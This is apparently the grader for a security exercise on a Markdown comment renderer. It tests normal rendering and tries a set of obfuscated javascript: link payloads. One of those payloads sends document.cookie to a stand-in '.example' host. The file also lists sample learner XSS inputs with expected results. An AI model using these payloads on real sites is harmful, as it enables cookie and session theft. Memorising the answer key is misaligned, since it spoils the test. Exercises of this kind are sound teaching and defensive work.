import re
from datetime import UTC, datetime
from urllib.parse import unquote

from page import scripts_of, tags_of


def render(code, source, author="Ada"):
    return code.render_comment(code.Comment(12, author, datetime(2026, 1, 5, tzinfo=UTC), source))


def works(code, vary):
    label = f"{vary.name()}'s guide"
    address = f"https://example.com/{vary.word()}?a={vary.number(1, 9)}&b=javascript:"
    person = f"{vary.word()}-h"
    author = f"{vary.name()} <{vary.word()}@example.com>"
    html = render(code, f"See [{label}]({address}), `a<b>` and\nask @{person}.\n\n<b>Bye</b>", author)
    tags = tags_of(html)
    links = [(tag["attributes"]["href"], tag["text"]) for tag in tags if tag["name"] == "a"]
    assert links[:1] == [(address, label)], f'"{label}" should link to {address}.'
    assert links[1:] == [(f"/people/{person}", f"@{person}")], f"@{person} should link to that person."
    assert [tag["text"] for tag in tags if tag["name"] == "code"] == ["a<b>"], "Text between backticks should be shown as code."
    assert len([tag for tag in tags if tag["name"] == "p"]) == 2, "An empty line should begin a new paragraph."
    assert "&lt;b&gt;Bye" in html, "HTML in a comment should be shown as text."
    assert any(author in tag["text"] for tag in tags), f"The author {author} should be shown."


def forms_of(steal):
    return (
        f"javascript:{steal}",
        f"JavaScript:{steal}",
        f"\x01javascript:{steal}",
        f"\x00\x1bjavascript:{steal}",
        f"javascript://example.com/%0a{steal}",
        f"JAVASCRIPT://https://example.com/%0a{steal}",
        f"javascript:/*https://example.com/*/{steal}",
        f"javascript:'https://';{steal}",
        f'https://example.com/"onmouseover="{steal}',
    )


def exploit(code, vary, payloads=None):
    forms = forms_of(f"location='https://{vary.word()}.example/?'+document.cookie") if payloads is None else payloads
    for target in forms:
        comment = f"See the [release notes]({target})"
        try:
            scripts = scripts_of(render(code, comment))
        except Exception:
            continue  # Refused; the next form may be not.
        for script in scripts:
            if script.endswith("document.cookie"):
                return {"sent": comment, "got": f"A click runs {script}"}
    return False


def is_complete(script):
    """A script whose brackets were cut off runs nothing."""
    opened, closing = [], {")": "(", "]": "[", "}": "{"}
    for sign in re.sub(r"""(["'`])(?:\\.|(?!\1)[^\\])*\1""", "", unquote(script)):
        if sign in "([{":
            opened.append(sign)
        elif sign in closing and (not opened or opened.pop() != closing[sign]):
            return False
    return not opened


# Attack mode: the learner writes the input.
def attack(code, input, vary):
    try:
        comment = code.Comment(vary.number(10, 99), vary.name(), datetime(2026, 1, 5, tzinfo=UTC), input["comment"])
        html = code.render_comment(comment)
    except Exception as error:
        return {"isDone": False, "shown": f"{type(error).__name__}: {error}"}
    scripts = scripts_of(html)
    lines = [
        f"A click runs: {script}" if is_complete(script) else f"A click fails with a syntax error: {script}" for script in scripts
    ] or ["Nothing in this page runs a script."]
    return {"isDone": any(map(is_complete, scripts)), "shown": "\n".join([html, "", *lines])}


ATTACKS = [
    {"input": {"comment": "See [the guide](JavaScript:alert(1))"}, "isDone": False},
    {"input": {"comment": "See [the guide](javascript:alert%28document.cookie%29)."}, "isDone": True},
    {"input": {"comment": "See [the guide](JavaScript:location=name)."}, "isDone": True},
    {"input": {"comment": "See [the guide](https://example.com/guide)."}, "isDone": False},
    {"input": {"comment": "<script>alert(1)</script>"}, "isDone": False},
]
